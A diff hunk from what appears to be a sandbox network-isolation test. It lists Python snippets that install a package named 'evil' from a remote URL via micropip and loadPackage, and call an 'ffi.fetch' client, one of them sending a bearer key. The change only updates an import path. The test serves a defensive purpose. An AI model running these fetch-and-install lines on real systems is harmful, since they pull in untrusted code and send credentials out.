@@ -128,9 +128,9 @@ PYTHON = {
     "micropip, a wheel": MICROPIP + "await micropip.install(URL + '/evil-1.0-py3-none-any.whl')",
     "micropip, an index": MICROPIP + "await micropip.install('evil', index_urls=[URL + '/simple'])",
     "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')\n1 / 0",
-    "the surface's own client": "from gemini import ffi\nawait ffi.fetch(URL, 'GET', {}, b'')",
+    "the surface's own client": "from gemini.core import ffi\nawait ffi.fetch(URL, 'GET', {}, b'')",
     "a model's endpoint": (
-        "from gemini import ffi\nawait ffi.fetch(URL + '/v1/chat', 'POST', {'authorization': 'Bearer key'}, b'{}')"
+        "from gemini.core import ffi\nawait ffi.fetch(URL + '/v1/chat', 'POST', {'authorization': 'Bearer key'}, b'{}')"
     ),
 }
 JAVASCRIPT = {
